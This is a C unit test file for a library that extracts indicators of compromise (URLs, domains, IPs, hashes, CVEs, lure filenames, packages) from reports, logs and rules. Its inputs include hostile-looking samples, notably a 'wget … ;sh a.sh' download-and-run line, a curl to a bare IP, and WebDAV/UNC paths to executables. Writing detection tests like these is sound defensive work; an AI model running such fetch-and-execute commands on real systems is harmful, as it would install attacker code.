/* lib/ioc: indicators in what is no prose: rules, logs, tables, code, mail. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <string.h>

#include <cmocka.h>

#include "test/support/ioc_fixture.h"

static void test_identifiers(void **state)
{
	static const struct text_case cases[] = {
	    {"CVE 2026-1234, CVE\xe2\x80\x93"
	     "2026\xe2\x80\x93"
	     "1235, CVE-2026\xe2\x88\x92"
	     "1236",
		"cve CVE-2026-1234 | cve CVE-2026-1235 | cve CVE-2026-1236"},
	    {"CVE 2024-2025 in numbers; CVE 2026 1234; CVE-0026-1234", ""},
	    {"tags:\n  - attack.t1059.001\n  - attack.execution",
		"attack-technique T1059.001"},
	    {"attack.t20 attack.t1059x", ""},
	};

	(void)state;
	CHECK(cases);
}

static void test_json(void **state)
{
	static const struct text_case cases[] = {
	    {"{\"u\": \"http:\\u002f\\u002fbad.com\\u002fa?b=1\\u0026c=2\"}",
		"url http://bad.com/a?b=1&c=2"},
	    {"\"C:\\Users\\u00e9t\\a.exe\"",
		"filepath c:\\users\\u00e9t\\a.exe"},
	};

	(void)state;
	CHECK(cases);
}

static void test_webdav(void **state)
{
	static const struct text_case cases[] = {
	    {"file://bad[.]com@SSL/DavWWWRoot/a.lnk",
		"url file://bad.com@SSL/DavWWWRoot/a.lnk | domain bad.com"},
	    {"file://45.33.32.156@80/Downloads/a.js",
		"url file://45.33.32.156@80/Downloads/a.js | ipv4 "
		"45.33.32.156"},
	    {"\\\\45.33.32.156\\share\\a.exe",
		"filepath \\\\45.33.32.156\\share\\a.exe | ipv4 45.33.32.156"},
	    {"http://user@bad.com/", "url http://user@bad.com/"},
	};

	(void)state;
	CHECK(cases);
}

static void test_tables(void **state)
{
	static const struct text_case cases[] = {
	    {"hxxps://bad[.]com/a,2026-03-10,x", "url https://bad.com/a"},
	    {"hxxps://bad[.]com/a,2026-3", "url https://bad.com/a,2026-3"},
	    {"The host bad[.]\ncom, and 45.33[.]\r\n32.156",
		"domain bad.com | ipv4 45.33.32.156"},
	    {"So it says[.]\nNext line", ""},
	    {"hxxps://bad[.]com/ahxxps://bad[.]net/b?http://x",
		"url https://bad.com/a | url https://bad.net/b?http://x"},
	    {"hxxp://bad[.]com/a[?]b=c", "url http://bad.com/a?b=c"},
	    {"SHA256 c0ffee41402abc4b2a76b9719d911017 "
	     "c592c0ffee41402abc4b2a76b9719d91",
		"sha256 c0ffee41402abc4b2a76b9719d911017"
		"c592c0ffee41402abc4b2a76b9719d91"},
	    {"MD55d41402abc4b2a76b9719d911017c592 "
	     "SHA256c0ffee41402abc4b2a76b9719d911017c592c0ffee41402abc4b2a76b97"
	     "1"
	     "9d91",
		"md5 5d41402abc4b2a76b9719d911017c592 | sha256 "
		"c0ffee41402abc4b2a76b9719d911017c592c0ffee41402abc4b2a76b971"
		"9d91"},
	};

	(void)state;
	CHECK(cases);
}

static void test_numbers(void **state)
{
	static const struct text_case cases[] = {
	    {"Serial Number: 5d41402abc4b2a76b9719d911017c592\n"
	     "trace-id=5d41402abc4b2a76b9719d911017c592",
		""},
	    {"JA3: 5d41402abc4b2a76b9719d911017c592, imphash "
	     "5d41402abc4b2a76b9719d911017c592, AES key "
	     "5d41402abc4b2a76b9719d911017c592",
		""},
	    {"45.33.32.156:443/tcp", "ipv4 45.33.32.156"},
	    {"aerial 5d41402abc4b2a76b9719d911017c592",
		"md5 5d41402abc4b2a76b9719d911017c592"},
	    {"kernel 5.15.0.91, Section 4.3.2.1, FortiOS 7.2.0.1, PAN-OS "
	     "10.1.2.3, OID 1.3.6.1",
		""},
	    {"SOS 45.33.32.156", "ipv4 45.33.32.156"},
	    {"00:00:00:00:00:00 ff:ff:ff:ff:ff:ff 00:00:00:00:00:01",
		"mac 00:00:00:00:00:01"},
	};

	(void)state;
	CHECK(cases);
}

static void test_versions(void **state)
{
	static const struct text_case cases[] = {
	    {"update OpenSSL 3.0.12.1 and Cisco IOS XE 17.9.4.1", ""},
	    {"Versions affected: 1.2.3.4, 1.2.3.5 and 1.2.3.6", ""},
	    {"versions 9.1.18.1 - 9.1.18.3; 14.1.8.50 build", ""},
	    {"it beacons over OpenSSL 45.133.1.2 to the Server 3.5.2.1, with "
	     "Async 3.5.2.2:6606",
		"ipv4 45.133.1.2 | ipv4 3.5.2.1 | ipv4 3.5.2.2"},
	    {"Beacon 3.5.2[.]1", "ipv4 3.5.2.1"},
	};

	(void)state;
	CHECK(cases);
}

/* Below a platform's wildcard a name is a machine, not a platform. */
static void test_machines(void **state)
{
	static const struct text_case cases[] = {
	    {"It is ec2-45-33-32-156.compute-1.amazonaws[.]com, one of those "
	     "on workers[.]dev now.",
		"domain ec2-45-33-32-156.compute-1.amazonaws.com | "
		"domain workers.dev?"},
	};

	(void)state;
	CHECK(cases);
}

static void test_headings(void **state)
{
	static const struct text_case cases[] = {
	    {"It talks to a-bad[.]com.\n\nSTEALER C2 TRAFFIC:\n\n- DNS query "
	     "for b-bad.com (none)\n",
		"domain a-bad.com | domain b-bad.com"},
	    {"It talks to a-bad[.]com.\n\nOur talk of C2 traffic:\n\n- DNS "
	     "query for b-bad.com (none)\n",
		"domain a-bad.com | domain b-bad.com?"},
	    {"Habla con a-bad[.]com.\n\nIndicadores de compromiso\n\n"
	     "Usa b-bad.com.\n\nReferencias\n\nhttps://c-good.com/a\n",
		"domain a-bad.com | domain b-bad.com | url "
		"https://c-good.com/a^"},
	};

	(void)state;
	CHECK(cases);
}

static void test_code(void **state)
{
	static const struct text_case cases[] = {
	    {"Math.max(a.id, e.me) and x(1).style.top or [2].node.is", ""},
	    {"import foo.bar.app\nfrom foo.team import x\nusing Foo.bar.cloud;",
		""},
	    {"using bad-foo.cloud, they came from bad-bar.team",
		"domain bad-foo.cloud | domain bad-bar.team"},
	    {"b.me\nx.to/a", "domain b.me | url x.to/a"},
	};

	(void)state;
	CHECK(cases);
}

static void test_rules(void **state)
{
	static const struct text_case cases[] = {
	    {"rule Bad { strings: $a = \"a-bad.com\" $b = /b\\.bad\\.net/ "
	     "condition: any of them }",
		"yara-rule Bad | domain a-bad.com | domain b.bad.net"},
	    {"It is b[.]bad\\.net, not a-bad.com.",
		"domain b.bad.net | domain a-bad.com?"},
	};

	(void)state;
	CHECK(cases);
}

static void test_wide_names(void **state)
{
	static const struct text_case cases[] = {
	    {"ファイル名：見積書.exe、「請求書2026.zip」と",
		"filename 見積書.exe | filename 請求書2026.zip"},
	    {"- 見積書_a.pdf.lnk\n", "filename 見積書_a.pdf.lnk"},
	    {"添付の見積書.exeを開くと、次のevil.exeが動く。",
		"filename evil.exe"},
	};

	(void)state;
	CHECK(cases);
}

static void test_shell(void **state)
{
	static const struct text_case cases[] = {
	    {"wget http://45.33.32.156/a.sh;sh a.sh",
		"url http://45.33.32.156/a.sh | filename a.sh"},
	    {"http://bad.com/a;type=a;b=c", "url http://bad.com/a;type=a;b=c"},
	    {"curl http://45.33.32.156/$(uname -m)",
		"url http://45.33.32.156/"},
	    {"start C:/Users/Public/b.exe, A:/B tests",
		"filepath c:\\users\\public\\b.exe"},
	    {"git clone git@bad.com:x/y.git; mail to git@bad.com",
		"email git@bad.com"},
	};

	(void)state;
	CHECK(cases);
}

static void test_purls(void **state)
{
	static const struct text_case cases[] = {
	    {"pkg:npm/bad-colors@1.0.0, pkg:npm/%40bad/kit@2, "
	     "pkg:pypi/reqests.",
		"package bad-colors | package @bad/kit | package reqests"},
	    {"pkg: npm/x pkg:npm/", ""},
	};

	(void)state;
	CHECK(cases);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_identifiers),
	    cmocka_unit_test(test_json),
	    cmocka_unit_test(test_webdav),
	    cmocka_unit_test(test_tables),
	    cmocka_unit_test(test_numbers),
	    cmocka_unit_test(test_versions),
	    cmocka_unit_test(test_machines),
	    cmocka_unit_test(test_headings),
	    cmocka_unit_test(test_code),
	    cmocka_unit_test(test_rules),
	    cmocka_unit_test(test_shell),
	    cmocka_unit_test(test_purls),
	    cmocka_unit_test(test_wide_names),
	};

	return cmocka_run_group_tests(
	    tests, ioc_fixture_load, ioc_fixture_unload);
}
